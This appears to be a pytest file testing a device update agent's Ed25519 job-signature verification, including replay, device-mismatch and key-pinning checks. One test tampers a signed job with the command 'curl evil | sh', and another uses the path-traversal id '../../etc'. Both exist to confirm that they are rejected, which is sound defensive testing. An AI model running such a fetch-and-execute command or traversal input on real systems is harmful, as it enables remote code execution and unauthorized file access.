"""The agent's job verification, against jobs signed here with cryptography as the device protocol documents."""

from __future__ import annotations

import base64
import copy
import json

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from microupdates.device_agent.job_verification import (
    TRUST_FILE,
    JobRejectedError,
    JobVerifier,
    ServerKeyError,
    decode_public_key,
)
from microupdates.protocol.device_api import CheckInResponse, canonical_job_bytes

DEVICE_ID = "gw-1"


def public_key_text(private_key: Ed25519PrivateKey) -> str:
    raw = private_key.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    return base64.b64encode(raw).decode("ascii")


def make_job(sequence: int = 1, **changes) -> dict:
    job = {
        "job_id": 7, "deployment_id": "dep-0a1b2c3d", "device_id": DEVICE_ID, "update_version": "1.0.0",
        "stage": "before", "progress_interval_seconds": 20,
        "command": {"run": "echo hello", "timeout_seconds": 60},
        "files": [], "dependencies": None, "sequence": sequence, "issued_at": "2026-12-04T22:00:00.000Z",
    }
    job.update(changes)
    return job


def sign(private_key: Ed25519PrivateKey, job: dict) -> str:
    return base64.b64encode(private_key.sign(canonical_job_bytes(job))).decode("ascii")


def receive(job: dict, signature: str | None) -> CheckInResponse:
    """Build the check-in response as the agent's client does: through JSON, keeping the job as received."""

    body = json.loads(json.dumps({"job": job, "job_signature": signature}))
    response = CheckInResponse.model_validate(body)
    response.keep_received_job(body["job"])
    return response


@pytest.fixture
def server_key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture
def verifier(tmp_path, server_key) -> JobVerifier:
    pinned = JobVerifier(tmp_path)
    pinned.pin(DEVICE_ID, public_key_text(server_key))
    return pinned


def test_accept_signed_job_records_sequence(verifier, server_key, tmp_path):
    job = make_job(sequence=3)

    accepted = verifier.accept(receive(job, sign(server_key, job)))

    assert accepted.command.run == "echo hello"
    assert accepted.sequence == 3
    assert JobVerifier(tmp_path).last_sequence == 3
    assert oct((tmp_path / TRUST_FILE).stat().st_mode & 0o777) == "0o600"


def test_accept_job_with_fields_unknown_to_agent(verifier, server_key):
    job = make_job(future_field={"nested": [1, "ü"]})

    accepted = verifier.accept(receive(job, sign(server_key, job)))

    assert accepted.job_id == 7


def test_reject_changed_command(verifier, server_key):
    job = make_job()
    signature = sign(server_key, job)
    tampered = copy.deepcopy(job)
    tampered["command"]["run"] = "curl evil | sh"

    with pytest.raises(JobRejectedError, match="signature does not match the pinned server key"):
        verifier.accept(receive(tampered, signature))
    assert verifier.last_sequence == 0


def test_reject_job_signed_by_other_key(verifier):
    job = make_job()

    with pytest.raises(JobRejectedError, match="signature does not match"):
        verifier.accept(receive(job, sign(Ed25519PrivateKey.generate(), job)))


def test_reject_unsigned_job(verifier):
    with pytest.raises(JobRejectedError, match="the job carries no signature"):
        verifier.accept(receive(make_job(), None))


def test_reject_signature_not_base64(verifier):
    with pytest.raises(JobRejectedError, match="not valid base64"):
        verifier.accept(receive(make_job(), "not base64!"))


def test_reject_job_for_other_device(verifier, server_key):
    job = make_job(device_id="gw-2")

    with pytest.raises(JobRejectedError, match="the job is for device 'gw-2', but this device is 'gw-1'"):
        verifier.accept(receive(job, sign(server_key, job)))


def test_reject_invalid_deployment_id(verifier, server_key):
    job = make_job(deployment_id="../../etc")

    with pytest.raises(JobRejectedError, match="invalid deployment id '../../etc'"):
        verifier.accept(receive(job, sign(server_key, job)))


@pytest.mark.parametrize("replayed_sequence", [5, 4])
def test_reject_replayed_sequence(verifier, server_key, replayed_sequence):
    newest = make_job(sequence=5)
    verifier.accept(receive(newest, sign(server_key, newest)))
    replayed = make_job(sequence=replayed_sequence)

    with pytest.raises(JobRejectedError, match="not greater than the last accepted 5, so it is a replay"):
        verifier.accept(receive(replayed, sign(server_key, replayed)))


def test_replay_rejected_after_restart(verifier, server_key, tmp_path):
    job = make_job(sequence=2)
    verifier.accept(receive(job, sign(server_key, job)))

    restarted = JobVerifier(tmp_path)

    with pytest.raises(JobRejectedError, match="replay"):
        restarted.accept(receive(job, sign(server_key, job)))


@pytest.mark.parametrize("issued_at, message", [(None, "no issue time"), ("yesterday", "is not ISO 8601")])
def test_reject_bad_issue_time(verifier, server_key, issued_at, message):
    job = make_job(issued_at=issued_at)

    with pytest.raises(JobRejectedError, match=message):
        verifier.accept(receive(job, sign(server_key, job)))


def test_reject_job_before_key_pinned(tmp_path, server_key):
    job = make_job()

    with pytest.raises(JobRejectedError, match="no server public key is pinned"):
        JobVerifier(tmp_path).accept(receive(job, sign(server_key, job)))


def test_configured_key_wins_over_served_key(tmp_path, server_key):
    configured = JobVerifier(tmp_path, configured_key=public_key_text(server_key))
    configured.pin(DEVICE_ID, public_key_text(Ed25519PrivateKey.generate()))
    job = make_job()

    accepted = configured.accept(receive(job, sign(server_key, job)))

    assert accepted.job_id == 7


def test_wrong_configured_key_rejects_jobs(tmp_path, server_key):
    configured = JobVerifier(tmp_path, configured_key=public_key_text(Ed25519PrivateKey.generate()))
    configured.pin(DEVICE_ID, public_key_text(server_key))
    job = make_job()

    with pytest.raises(JobRejectedError, match="signature does not match the pinned server key"):
        configured.accept(receive(job, sign(server_key, job)))


def test_pin_other_device_resets_sequence(verifier, server_key):
    job = make_job(sequence=9)
    verifier.accept(receive(job, sign(server_key, job)))

    verifier.pin("gw-9", public_key_text(server_key))

    assert verifier.last_sequence == 0
    assert verifier.device_id == "gw-9"


def test_pin_without_served_key_fails(tmp_path):
    with pytest.raises(JobRejectedError, match="the server sent no job-signing key"):
        JobVerifier(tmp_path).pin(DEVICE_ID, None)


@pytest.mark.parametrize("text, message", [
    ("@@@", "is not valid base64"),
    (base64.b64encode(b"short").decode(), "decodes to 5 bytes; an Ed25519 key has 32"),
])
def test_decode_public_key_rejects_bad_text(text, message):
    with pytest.raises(ServerKeyError, match=message):
        decode_public_key(text)


def test_canonical_bytes_sorted_compact_utf8():
    assert canonical_job_bytes({"b": 1, "a": {"d": "ü", "c": None}}) == '{"a":{"c":null,"d":"ü"},"b":1}'.encode()
